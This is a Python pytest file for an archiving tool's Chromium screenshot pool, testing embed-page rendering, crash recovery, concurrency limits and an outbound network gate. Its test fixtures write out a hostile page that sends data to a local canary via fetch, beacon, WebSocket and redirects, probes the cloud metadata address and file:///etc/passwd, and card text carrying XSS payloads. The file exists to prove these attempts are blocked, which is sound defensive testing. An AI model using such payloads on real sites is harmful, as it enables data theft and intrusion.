"""The browser pool against a real Chromium: platform embed pages from the emulator, Archiver's
own card, a hostile page that tries every way out past the outbound gate (a canary listener
counts what reached it), a killed browser, and the page limit."""

from __future__ import annotations

import asyncio
import os
import signal
import struct
import zlib
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

import pytest

from archiver.browser import (
    BANNER,
    BrowserPool,
    CardData,
    ScreenshotFailed,
    Shot,
    render_card_html,
)
from archiver.chromium import find_chromium
from archiver.config import Settings, load_settings
from archiver.egress import Egress
from archiver.emulator import EmulatorServer
from tests.canary import Canary

if find_chromium(None) is None:
    pytest.skip(
        "no Chromium found (install the chromium package or set ARCHIVER_CHROMIUM)",
        allow_module_level=True,
    )

SELECTOR = "article.card"
ALLOWED = "https://allowed.example.test"
NOW = datetime(2025, 1, 2, 3, 4, 5, tzinfo=UTC)


# --- Reading pixels -----------------------------------------------------------------------


@dataclass
class Image:
    """A decoded PNG: ``pixels[y][x]`` is an ``(r, g, b)`` triple."""

    width: int
    height: int
    pixels: list[list[tuple[int, int, int]]]

    def colours(self) -> set[tuple[int, int, int]]:
        """Every distinct colour in the image."""
        return {pixel for row in self.pixels for pixel in row}

    def dark_share(self) -> float:
        """The share of pixels dark enough to be text."""
        dark = sum(1 for row in self.pixels for r, g, b in row if r + g + b < 200)
        return dark / (self.width * self.height)


def _paeth(a: int, b: int, c: int) -> int:
    p = a + b - c
    pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
    if pa <= pb and pa <= pc:
        return a
    return b if pb <= pc else c


def decode_png(png: bytes) -> Image:
    """Decode an 8-bit RGB or RGBA, non-interlaced PNG with the standard library."""
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    position, data, header = 8, b"", b""
    while position < len(png):
        (length,) = struct.unpack(">I", png[position : position + 4])
        kind = png[position + 4 : position + 8]
        chunk = png[position + 8 : position + 8 + length]
        header = chunk if kind == b"IHDR" else header
        data += chunk if kind == b"IDAT" else b""
        position += 12 + length
    width, height, depth, colour, _, _, interlace = struct.unpack(">IIBBBBB", header)
    assert depth == 8 and colour in (2, 6) and interlace == 0, (depth, colour, interlace)
    channels = 3 if colour == 2 else 4
    stride = width * channels
    raw = zlib.decompress(data)
    previous = bytearray(stride)
    pixels = []
    for y in range(height):
        start = y * (stride + 1)
        kind, line = raw[start], bytearray(raw[start + 1 : start + 1 + stride])
        for i in range(stride):
            left = line[i - channels] if i >= channels else 0
            up = previous[i]
            corner = previous[i - channels] if i >= channels else 0
            predictor = (0, left, up, (left + up) // 2, _paeth(left, up, corner))[kind]
            line[i] = (line[i] + predictor) & 0xFF
        pixels.append([tuple(line[x : x + 3]) for x in range(0, stride, channels)])
        previous = line
    return Image(width, height, pixels)  # type: ignore[arg-type]


def assert_png(shot: Shot) -> Image:
    """The shot is a valid PNG of sensible size that shows something (not one flat colour)."""
    image = decode_png(shot.png)
    assert (image.width, image.height) == (shot.width, shot.height)
    assert shot.width > 100 and shot.height > 50
    assert shot.height <= 4000 * 2
    assert len(image.colours()) > 20
    return image


# --- Servers ------------------------------------------------------------------------------


Page = tuple[int, dict[str, str], bytes]


@dataclass
class Origin:
    """A tiny HTTP/1.1 server on 127.0.0.1, reached only as ``ALLOWED`` through an override."""

    pages: dict[str, Callable[[], Awaitable[Page]]]
    paths: list[str] = field(default_factory=list)
    port: int = 0
    _server: asyncio.Server | None = None
    _connections: dict[asyncio.Task[None], asyncio.StreamWriter] = field(default_factory=dict)

    async def start(self) -> None:
        """Listen on a free loopback port."""
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._connections[task] = writer
        try:
            while True:
                head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
                path = head[0].split(" ")[1]
                sizes = [h.split(":")[1] for h in head if h.lower().startswith("content-length")]
                await reader.readexactly(int(sizes[0]) if sizes else 0)
                self.paths.append(path)
                page = self.pages.get(path)
                status, headers, body = (404, {}, b"no") if page is None else await page()
                lines = [f"HTTP/1.1 {status} X", f"Content-Length: {len(body)}"]
                lines += [f"{name}: {value}" for name, value in headers.items()]
                writer.write(("\r\n".join(lines) + "\r\n\r\n").encode() + body)
                await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()
            del self._connections[task]

    async def close(self) -> None:
        """Stop listening; end the connections still open."""
        assert self._server is not None
        self._server.close()
        tasks = list(self._connections)
        for writer in self._connections.values():
            writer.close()
        await asyncio.wait(tasks, timeout=2) if tasks else None
        await self._server.wait_closed()


def html(body: str) -> Callable[[], Awaitable[Page]]:
    """A page handler answering ``body`` as HTML."""

    async def page() -> Page:
        return 200, {"Content-Type": "text/html; charset=utf-8"}, body.encode()

    return page


def hostile_page(canary: int) -> str:
    """A page that tries every way past the gate to the canary and the metadata address."""
    out = f"http://127.0.0.1:{canary}"
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>allowed</title>
<link rel="preconnect" href="{out}"><link rel="dns-prefetch" href="{out}">
<link rel="stylesheet" href="{out}/style.css"></head>
<body><h1 id="ok">An allowed page</h1>
<img src="{out}/x.png"><img src="http://169.254.169.254/latest/meta-data/">
<img src="/hop.png"><iframe src="file:///etc/passwd"></iframe><iframe src="{out}/frame"></iframe>
<a id="out" href="{out}/file.bin" download>download</a>
<a id="attachment" href="/attachment.bin" download>download</a>
<script>
fetch("{out}/f").catch(() => {{}});
fetch("{out}/p", {{method: "POST", body: "secret"}}).catch(() => {{}});
const socket = new WebSocket("ws://127.0.0.1:{canary}/ws");
navigator.sendBeacon("{out}/beacon", "x");
new EventSource("{out}/events");
if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js").catch(() => {{}});
document.getElementById("out").click();
document.getElementById("attachment").click();
setTimeout(() => {{ location.href = "{out}/away"; }}, 20);
</script></body></html>"""


def settings_for(overrides: dict[str, str], **values: Any) -> Settings:
    """Settings with the given upstream overrides and private addresses refused."""
    return load_settings(upstream_overrides=overrides, allow_private_addresses=False, **values)


@pytest.fixture(scope="module")
def emulator() -> Iterator[EmulatorServer]:
    """The platform emulator, shared by the module's tests."""
    with EmulatorServer() as server:
        yield server


@pytest.fixture
async def pool(emulator: EmulatorServer) -> AsyncIterator[BrowserPool]:
    """A browser pool whose gate sends the platforms' origins to the emulator."""
    settings = settings_for(emulator.override_map)
    async with Egress(settings) as egress, BrowserPool(settings, egress) as browsers:
        yield browsers


@pytest.fixture
async def canary() -> AsyncIterator[Canary]:
    """A listener that must see no connection."""
    listener = Canary()
    yield listener
    listener.close()


@pytest.fixture
async def origin(canary: Canary) -> AsyncIterator[Origin]:
    """The allowed origin: a hostile page, a redirect to the canary, an attachment."""

    async def hop() -> Page:
        return 302, {"Location": f"http://127.0.0.1:{canary.port}/hop.png"}, b""

    async def attachment() -> Page:
        return 200, {"Content-Disposition": "attachment; filename=a.bin"}, b"\0" * 64

    server = Origin(
        {
            "/page": html(hostile_page(canary.port)),
            "/redirect": hop,
            "/hop.png": hop,
            "/attachment.bin": attachment,
            "/plain": html('<p id="there">plain</p>'),
            "/leave-traces": html(
                "<script>localStorage.setItem('secret', 'left');"
                "document.cookie = 'secret=left; max-age=3600';"
                "sessionStorage.setItem('secret', 'left');</script><p id='there'>set</p>"
            ),
            "/look-for-traces": html(
                "<script>document.title = [localStorage.getItem('secret'),"
                " sessionStorage.getItem('secret'), document.cookie].join('|');</script>"
                "<p id='there'>looked</p>"
            ),
        }
    )
    await server.start()
    yield server
    await server.close()


@pytest.fixture
async def origin_pool(origin: Origin) -> AsyncIterator[BrowserPool]:
    """A browser pool whose gate reaches ``ALLOWED`` at the local origin and nothing private."""
    settings = settings_for({ALLOWED: f"http://127.0.0.1:{origin.port}"})
    async with Egress(settings) as egress, BrowserPool(settings, egress) as browsers:
        yield browsers


def embed_url(emulator: EmulatorServer, platform: str, text: str) -> str:
    """Publish a post in the emulator and return its platform embed page's URL."""
    post = emulator.world.add_post(platform, "alice", text, name="Alice Example")
    if platform == "x":
        return f"https://platform.twitter.com/embed/Tweet.html?id={post.id}"
    if platform == "bluesky":
        return f"https://embed.bsky.app/embed/{post.did}/app.bsky.feed.post/{post.id}"
    return f"https://{post.host}/@alice/{post.id}/embed"


# --- Platform pages -----------------------------------------------------------------------


@pytest.mark.parametrize("platform", ["x", "mastodon", "truthsocial", "bluesky"])
async def test_platform_embed_page_is_screenshotted(
    pool: BrowserPool, emulator: EmulatorServer, platform: str
) -> None:
    """The post's embed page renders through the gate and its card is cropped into a PNG."""
    text = f"Evidence from {platform}: the quick brown fox"
    url = embed_url(emulator, platform, text)
    async with pool.open_page() as routed:
        response = await routed.goto(url, timeout=15)
        assert response is not None and response.status == 200
        assert text in await routed.page.inner_text(SELECTOR)
        assert routed.state.refused == []

    shot = await pool.screenshot_page(url, selector=SELECTOR)

    image = assert_png(shot)
    assert shot.source == "platform" and shot.url == url
    assert shot.browser_version == pool.version and shot.browser_version[:1].isdigit()
    assert shot.width <= 600 * 2
    r, g, b = image.pixels[0][image.width // 2]  # the card's 1px #cfd9de border is the top row
    assert abs(r - 0xCF) < 12 and abs(g - 0xD9) < 12 and abs(b - 0xDE) < 12
    assert 0.005 < image.dark_share() < 0.3  # text, on a mostly white card


async def test_http_error_from_the_embed_page_fails(pool: BrowserPool) -> None:
    """A 404 from the embed page is a ScreenshotFailed naming the status."""
    url = "https://platform.twitter.com/embed/Tweet.html?id=1"
    with pytest.raises(ScreenshotFailed, match="HTTP 404 from the embed page"):
        await pool.screenshot_page(url, selector=SELECTOR)


async def test_missing_post_element_times_out(origin_pool: BrowserPool) -> None:
    """A page without the post element fails once the deadline passes."""
    with pytest.raises(ScreenshotFailed, match="timeout waiting for the post element"):
        await origin_pool.screenshot_page(f"{ALLOWED}/plain", selector="#absent", deadline=1.0)


async def test_a_capture_sees_nothing_an_earlier_capture_left(origin: Origin) -> None:
    """Storage and cookies left by one capture are gone for the next one in the same context."""
    settings = settings_for({ALLOWED: f"http://127.0.0.1:{origin.port}"}, capture_concurrency=1)
    async with Egress(settings) as egress, BrowserPool(settings, egress) as browsers:
        async with browsers.open_page() as first:
            await first.goto(f"{ALLOWED}/leave-traces", timeout=10)
            assert await first.page.evaluate("localStorage.getItem('secret')") == "left"
        async with browsers.open_page() as second:
            assert second.page is first.page  # the very same page, reused after a wipe
            await second.goto(f"{ALLOWED}/look-for-traces", timeout=10)
            assert await second.page.title() == "||"


async def test_height_is_capped(origin_pool: BrowserPool) -> None:
    """Without a selector the viewport is taken, no taller than ``max_height``."""
    shot = await origin_pool.screenshot_page(f"{ALLOWED}/plain", selector=None, max_height=300)
    assert (shot.width, shot.height) == (1200, 600)


# --- Archiver's card ----------------------------------------------------------------------

HOSTILE_TEXT = (
    'Look <script>document.title = "pwned"</script>\n'
    "<img src=x onerror=\"document.title = 'img'\">\n"
    "last line \u202eevil\u202c end"
)


def hostile_card() -> CardData:
    """A card whose every field tries to be markup."""
    return CardData(
        platform="X",
        author_name="<b>Alice</b>",
        author_handle="alice",
        posted_at=NOW,
        text=HOSTILE_TEXT,
        captured_at=NOW,
        post_url="https://x.com/alice/status/1?<script>",
        media_count=2,
        media_sha256=("ab" * 32,),
    )


async def test_card_renders_hostile_text_inert(pool: BrowserPool) -> None:
    """The card shows script and markup as literal text; nothing in it runs or loads."""
    html_text = render_card_html(hostile_card())
    async with pool.open_page() as routed:  # JavaScript on here, to prove nothing would run
        await routed.page.set_content(html_text)
        await routed.page.wait_for_timeout(100)
        assert await routed.page.title() == "Archiver card"
        card = routed.page.locator("#archiver-card")
        shown = await card.inner_text()
        assert await card.locator("script, img, b").count() == 0
        assert routed.state.refused == [] and routed.state.fetched == 0
    assert '<script>document.title = "pwned"</script>' in shown
    assert "<img src=x" in shown and "<b>Alice</b>" in shown and "@alice" in shown
    assert BANNER in shown and "2025-01-02 03:04:05 UTC" in shown
    assert "U+202E" in shown and "SHA-256 abababababababab" in shown
    assert 'pwned"</script>\n<img src=x' in shown  # line breaks kept

    shot = await pool.screenshot_card(hostile_card())

    image = assert_png(shot)
    assert shot.source == "archiver_card" and shot.url is None
    assert image.width <= 600 * 2
    yellow = sum(1 for row in image.pixels[:40] for pixel in row if pixel == (0xFF, 0xF3, 0xC4))
    assert yellow > image.width * 10  # the banner


# --- The outbound gate --------------------------------------------------------------------


async def test_browser_reaches_nothing_past_the_gate(
    origin_pool: BrowserPool, origin: Origin, canary: Canary
) -> None:
    """Images, fetches, beacons, sockets, frames, downloads and preconnects never connect."""
    shot = await origin_pool.screenshot_page(f"{ALLOWED}/page", selector="#ok")
    assert_png(shot)
    async with origin_pool.open_page() as routed:
        await routed.goto(f"{ALLOWED}/page", timeout=10)
        await routed.page.wait_for_timeout(300)
        assert await routed.page.inner_text("#ok") == "An allowed page"  # not navigated away
        refused = routed.state.refused
    await asyncio.sleep(1.0)

    assert canary.connections() == 0
    out = f"http://127.0.0.1:{canary.port}"
    assert {f"{out}/x.png", f"{out}/f", f"{out}/p", f"{out}/events"} <= set(refused)
    assert "http://169.254.169.254/latest/meta-data/" in refused
    assert f"{ALLOWED}/hop.png" in refused  # its redirect to the canary was refused
    assert "/page" in origin.paths and "/sw.js" not in origin.paths


async def test_redirect_to_a_private_address_is_refused(
    origin_pool: BrowserPool, canary: Canary
) -> None:
    """A main document redirecting to loopback fails naming the gate; nothing connects."""
    with pytest.raises(ScreenshotFailed, match="refused by the outbound gate"):
        await origin_pool.screenshot_page(f"{ALLOWED}/redirect", selector=None)
    with pytest.raises(ScreenshotFailed, match="refused by the outbound gate"):
        await origin_pool.screenshot_page(f"http://127.0.0.1:{canary.port}/", selector=None)
    with pytest.raises(ScreenshotFailed, match="refused by the outbound gate"):
        await origin_pool.screenshot_page("file:///etc/passwd", selector=None)
    await asyncio.sleep(0.5)
    assert canary.connections() == 0


# --- Life of the browser ------------------------------------------------------------------


async def wait_for_state(pool: BrowserPool, state: str) -> None:
    """Wait (briefly) until the pool reports ``state``."""
    for _ in range(200):
        if pool.status()["state"] == state:
            return
        await asyncio.sleep(0.01)
    raise AssertionError(f"the pool is {pool.status()['state']}, not {state}")


async def test_killed_browser_is_relaunched(pool: BrowserPool, emulator: EmulatorServer) -> None:
    """After Chromium is killed the next capture launches a new one and succeeds."""
    assert pool.status() == {"state": "not started", "version": None, "pages_in_use": 0}
    url = embed_url(emulator, "x", "before and after the crash")
    assert_png(await pool.screenshot_page(url, selector=SELECTOR))
    first = pool.pid
    assert first is not None and pool.status()["state"] == "running"

    os.kill(first, signal.SIGKILL)
    await wait_for_state(pool, "dead")
    assert_png(await pool.screenshot_page(url, selector=SELECTOR))

    second = pool.pid
    assert second is not None and second != first and pool.launches == 2
    assert pool.status()["state"] == "running"

    os.kill(second, signal.SIGKILL)  # and at once, before Playwright may have noticed
    assert_png(await pool.screenshot_page(url, selector=SELECTOR))
    assert pool.launches == 3 and pool.status()["state"] == "running"


async def test_capture_is_retried_when_the_browser_dies_under_it(
    origin_pool: BrowserPool, origin: Origin
) -> None:
    """A browser killed mid-capture is relaunched and the capture is tried once more."""
    slow_started = asyncio.Event()

    async def slow() -> Page:
        slow_started.set()
        await asyncio.sleep(0.3)
        return 200, {"Content-Type": "text/css"}, b"h1{color:#123}"

    origin.pages["/slow"] = html('<link rel="stylesheet" href="/slow.css"><h1 id="ok">ok</h1>')
    origin.pages["/slow.css"] = slow
    await origin_pool.screenshot_page(f"{ALLOWED}/plain", selector="#there")  # launch it
    pid = origin_pool.pid
    assert pid is not None

    capture = asyncio.create_task(origin_pool.screenshot_page(f"{ALLOWED}/slow", selector="#ok"))
    await asyncio.wait_for(slow_started.wait(), 10)
    os.kill(pid, signal.SIGKILL)
    assert_png(await capture)
    assert origin_pool.launches == 2


async def test_pages_at_once_are_limited(emulator: EmulatorServer) -> None:
    """Six captures with capture_concurrency=2 never have more than two pages open."""
    settings = settings_for(emulator.override_map, capture_concurrency=2)
    urls = [embed_url(emulator, "mastodon", f"post number {n}") for n in range(6)]
    seen: list[int] = []
    async with Egress(settings) as egress, BrowserPool(settings, egress) as pool:

        async def watch() -> None:
            while True:
                seen.append(pool.status()["pages_in_use"])
                await asyncio.sleep(0.005)

        watcher = asyncio.create_task(watch())
        shots = await asyncio.gather(*(pool.screenshot_page(u, selector=SELECTOR) for u in urls))
        watcher.cancel()
        assert pool.launches == 1

    assert len(shots) == 6 and all(shot.width > 100 for shot in shots)
    assert max(seen) == 2 and pool.peak_pages_in_use == 2
